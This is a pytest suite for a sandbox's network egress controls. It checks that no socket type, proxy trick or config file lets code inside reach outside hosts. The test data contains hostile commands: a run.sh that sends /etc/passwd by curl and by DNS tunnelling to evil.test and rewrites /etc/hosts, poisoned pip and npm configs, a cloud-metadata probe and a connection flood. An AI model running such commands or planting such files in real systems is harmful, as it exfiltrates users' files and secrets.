"""There is no way round the gate: no interface, no family, no protocol, no neighbour, no first millisecond."""

from __future__ import annotations

import json
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor

import pytest

from cloche.client import Sandbox
from cloche.wire.egress import EgressLimits
from tests.promises.egress import packages
from tests.promises.egress.inside import connect, get, talk
from tests.promises.egress.worlds import EVIL, WEB, World, needs_clients, needs_world
from tests.promises.nodes import RealNode, wait_until

pytestmark = [needs_world, pytest.mark.timeout(180)]

REACH = """
import json, socket, sys
kind, targets = sys.argv[1], json.loads(sys.argv[2])
found = []
def reach(family, kind, proto, address, data=b"out"):
    try:
        with socket.socket(family, kind, proto) as s:
            s.settimeout(0.5)
            s.connect(address)
            s.send(data)
            if kind != socket.SOCK_STREAM: s.recv(100)
            found.append(str(address))
    except OSError as e: pass
def families():
    found.extend(name for _, name in socket.if_nameindex() if name != "lo")
    for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM, socket.SOCK_STREAM):
        try: socket.socket(socket.AF_PACKET, kind).close()
        except OSError: continue
        found.append(f"packet socket {kind}")
    for cid in (0, 1, 2, 3):
        for port in (22, 1024, 2375): reach(40, socket.SOCK_STREAM, 0, (cid, port))
for address in targets:
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    if kind == "tcp":
        for port in (22, 53, 80, 443, 853, 2375, 3128, 8443): reach(family, socket.SOCK_STREAM, 0, (address, port))
    elif kind == "udp-icmp":
        for port in (53, 123, 443, 5353): reach(family, socket.SOCK_DGRAM, 0, (address, port))
        for sort in (socket.SOCK_DGRAM, socket.SOCK_RAW):
            if address.startswith("127."): continue  # the guest's own loopback answers a ping
            reach(family, sort, socket.IPPROTO_ICMP if family == socket.AF_INET else 58, (address, 0), b"\\x08\\0\\xf7\\xff\\0\\0\\0\\0")
if kind == "families": families()
print(json.dumps(found))
"""
OUTSIDE = (
    "8.8.8.8",
    "1.1.1.1",
    "169.254.169.254",
    "10.0.0.1",
    "192.168.0.1",
    "172.17.0.1",
    "2001:4860:4860::8888",
    "fe80::1",
)


@pytest.fixture(scope="module")
def boxes(node: RealNode) -> Iterator[tuple[Sandbox, Sandbox]]:
    """One that may reach the web server, and one that may reach nothing."""
    limits = EgressLimits(attempts_per_s=10_000)
    with node.sandbox(egress=[WEB], egress_limits=limits) as allowed, node.sandbox(egress_limits=limits) as nothing:
        yield allowed, nothing


@pytest.mark.req("NET-1")
@pytest.mark.parametrize("kind", ["families", "tcp", "udp-icmp"])
def test_no_socket_of_any_family_reaches_anything(boxes: tuple[Sandbox, Sandbox], earth: World, kind: str) -> None:
    """Also as root inside, with all the capabilities that a command can have. What is on this machine is tried first."""
    earth.forget()
    for targets in ([earth.evil_address, earth.web, earth.dns_address], OUTSIDE):
        for box in boxes:
            for user in ("1000:1000", "0:0"):
                argv = ["python3", "-c", REACH, kind, json.dumps(targets)]
                assert json.loads(box.run(argv, user=user, timeout_s=60, check=True).stdout) == []
                assert earth.evil.is_untouched, str(earth.evil)
        assert earth.requests(kind="request") == []


@pytest.mark.req("NET-1")
def test_without_its_variables_a_program_reaches_no_more(boxes: tuple[Sandbox, Sandbox], earth: World) -> None:
    script = (
        "import os, urllib.request as u\n"
        "for name in list(os.environ):\n"
        "    if 'proxy' in name.lower(): del os.environ[name]\n"
        "for url in ('http://web.test/echo', 'http://evil.test/', 'http://8.8.8.8/', 'http://169.254.169.254/'):\n"
        "    try: print(u.urlopen(url, timeout=3).status)\n"
        "    except OSError as e: print('no')\n"
    )
    earth.forget()
    allowed, nothing = boxes
    assert nothing.run(["python3", "-c", script]).stdout.split() == ["no"] * 4
    assert earth.requests() == []
    assert allowed.run(["python3", "-c", script]).stdout.split() == ["200", "no", "no", "no"]
    assert earth.evil.is_untouched, str(earth.evil)


@pytest.mark.req("NET-1")
def test_identity_is_the_channel(boxes: tuple[Sandbox, Sandbox], earth: World) -> None:
    """What a sandbox says about who it is changes nothing: another's id, its proxy's address, its slots."""
    allowed, nothing = boxes
    earth.forget()
    claims = [
        f"Proxy-Authorization: Basic {allowed.id}",
        f"X-Cloche-Sandbox: {allowed.id}",
        f"Cookie: sandbox={allowed.id}",
    ]
    tries = [get(f"http://{WEB}/echo", claim) for claim in claims]
    assert [one.code for one in talk(nothing, *tries)] == ["no_rule"] * len(tries)
    for slot in range(8):
        for one in talk(nothing, connect(WEB), to=(f"127.127.0.{1 + slot}", 3128)):
            assert one.status in (0, 403), one
    assert earth.requests() == []
    assert {record.sandbox for record in nothing.egress.records()} == {nothing.id}
    assert all(record.verdict == "denied" for record in nothing.egress.records())


@pytest.mark.req("NET-2")
def test_an_empty_list_allows_nothing_from_the_first_moment(node: RealNode, earth: World) -> None:
    """The first process of a new sandbox asks as early as it can, many times; none of it gets out."""
    script = (
        "import socket, time\n"
        "end = time.monotonic() + 1\n"
        "count = good = 0\n"
        "while time.monotonic() < end:\n"
        f"    for to in (('127.127.0.2', 3128), ('{earth.web}', 80), ('{WEB}', 80)):\n"
        "        count += 1\n"
        "        try:\n"
        "            with socket.create_connection(to, 1) as s:\n"
        f"                s.sendall(b'GET http://{WEB}/first HTTP/1.1\\r\\nHost: {WEB}\\r\\n\\r\\n')\n"
        "                good += b' 200' in s.recv(100)[:20]\n"
        "        except OSError: pass\n"
        "print(count, good)\n"
    )
    earth.forget()
    limits = EgressLimits(attempts_per_s=10_000)
    for rules in ([], [EVIL]):
        first = {"argv": ["python3", "-c", script]}
        with node.sandbox(egress=rules, egress_limits=limits, command=first) as box:
            assert box.view.first_command
            count, good = box.commands.get(box.view.first_command).result().stdout.split()
            assert int(count) > 10
            assert int(good) == 0
    assert earth.requests() == []


HOSTILE_FILES = {
    "cloche.yaml": "egress:\n  - allow: {host: evil.test}\n  - allow: {host: '*.test'}\nsecrets: [GITHUB_TOKEN]\n",
    "policy.yaml": "version: 1\ndefault: ask\nallow: [evil.test]\naddresses: ['127.0.0.1']\n",
    ".cloche/policy.yaml": "allow: ['*.test']\n",
    ".env": "HTTP_PROXY=http://evil.test:8080\n",
    ".npmrc": "registry=https://evil.test/\n",
    "pip.conf": "[global]\nindex-url = https://evil.test/simple\n",
    "run.sh": (
        "set +e\n"
        "cp policy.yaml cloche.yaml /etc/ 2>/dev/null; cp -r .cloche ~/ ; mkdir -p ~/.config/cloche && cp policy.yaml ~/.config/cloche/\n"
        "echo '127.127.0.2 evil.test' >> /etc/hosts; echo 'nameserver 8.8.8.8' > /etc/resolv.conf\n"
        "for u in https://evil.test http://evil.test http://evil.test:8080 http://%s http://%s:8080; do\n"
        "  curl -ksS -m 5 --data-binary @/etc/passwd $u/take\n"
        "  curl -ksS -m 5 --noproxy '*' --data-binary @/etc/passwd $u/take\n"
        "  curl -ksS -m 5 --noproxy '*' --connect-to ::%s:443 --data-binary @/etc/passwd https://web.test/take\n"
        "done\n"
        "PIP_CONFIG_FILE=pip.conf pip download -q --retries 0 cloche-hello -d /tmp/x\n"
        "npm install --fetch-retries=0 cloche-hello\n"
        "git push https://evil.test/x.git main\n"
        "dig +tries=1 +time=1 $(head -c 20 /etc/passwd | base64 | tr -d =).evil.test TXT\n"
        "dig +tries=1 +time=1 @8.8.8.8 secret.evil.test; dig +tries=1 +time=1 @%s secret.evil.test\n"
        "ping -c1 -W1 evil.test; ping -c1 -W1 8.8.8.8\n"
        "psql -h evil.test -c 'select 1'\n"
        "echo done\n"
    ),
}


@needs_clients
@pytest.mark.req("NET-2")
@pytest.mark.req("NET-3")
def test_a_cloned_repository_that_asks_for_everything(node: RealNode, earth: World) -> None:
    """Its files would allow all, its script tries all. The clone works; after it, not one byte gets out."""
    files = {**HOSTILE_FILES}
    files["run.sh"] = files["run.sh"].replace("%s", earth.evil_address)
    if not (earth.files / "git" / "everything.git").exists():
        packages.make_repository(earth.files, "everything", files)
    earth.dns.answers[EVIL] = [earth.evil_address]
    earth.dns.asked.clear()
    with node.sandbox(image="clients", memory_mb=1024, cpus=2, egress=[WEB]) as box:
        box.run(f"git -c http.sslVerify=false clone -q https://{WEB}/git/everything.git /workspace/e", check=True)
        earth.forget()
        running = box.commands.start("sh run.sh", cwd="/workspace/e", timeout_s=120)
        wait_until(lambda: running.info().ended is not None or not earth.evil.is_untouched, 120, "its end")
        assert earth.evil.is_untouched, str(earth.evil)
        assert running.result().stdout.endswith("done\n")
        assert earth.requests(path="/take") == []
        assert earth.dns.asked == []
        hosts = {record.host for record in box.egress.records() if record.verdict == "denied"}
        assert EVIL in hosts


@pytest.mark.req("NET-8")
@pytest.mark.req("NET-9")
def test_ten_thousand_half_open_streams(node: RealNode, earth: World, long_run: bool) -> None:
    """They are bounded, cost the node little, and the neighbour and this sandbox work during and after."""
    script = (
        "import resource, socket, sys, time\n"
        "resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)\n"
        "total, kept, opened = int(sys.argv[1]), [], 0\n"
        "while opened < total:\n"
        "    s = socket.socket()\n"
        "    s.setblocking(False)\n"
        "    s.connect_ex(('127.127.0.2', 3128))\n"
        "    opened += 1\n"
        "    kept.append(s)\n"
        "    if len(kept) >= 900:\n"
        "        for old in kept[:300]: old.close()\n"
        "        kept = kept[300:]\n"
        "print('opened', opened, flush=True)\n"
        "time.sleep(2)\n"
    )
    total = 10_000 if long_run else 3_000
    with node.sandbox(egress=[WEB]) as box, node.sandbox(egress=[WEB]) as neighbour:
        before = node.daemon_rss_bytes()
        running = box.commands.start(["python3", "-c", script, str(total)])
        assert "opened" in next(iter(running.output())).text
        (during,) = talk(neighbour, get(f"http://{WEB}/echo", "Connection: close"))
        assert during.status == 200
        running.kill()
        grown = node.daemon_rss_bytes() - before
        assert grown < 64 * 1024 * 1024, grown
        codes = {record.code for record in box.egress.records()}
        assert "too_many_connections" in codes, "nobody counted them"

        def answers() -> bool:
            return talk(box, get(f"http://{WEB}/echo", "Connection: close"))[0].status == 200

        wait_until(answers, 30, "the sandbox's own way out")


@pytest.mark.req("NET-8")
def test_a_slow_head_is_given_up(boxes: tuple[Sandbox, Sandbox], earth: World) -> None:
    """A byte now and then keeps nothing open: neither a head that never ends nor a hello that never comes."""
    earth.forget()
    slow = [b"GET http://web.test/ HTTP/1.1\r\nHost: web.test\r\n", *[b"X: y\r\n"] * 10]
    with ThreadPoolExecutor(2) as pool:
        head = pool.submit(talk, boxes[0], slow, pause_s=1.0, wait_s=1.5)
        silence = pool.submit(talk, boxes[0], [connect(WEB)], wait_s=12.0)
    (slow_one,), (silent,) = head.result(), silence.result()
    assert slow_one.end != "open", slow_one
    assert slow_one.status in (0, 408), slow_one
    assert silent.end != "open", silent
    assert earth.requests() == []
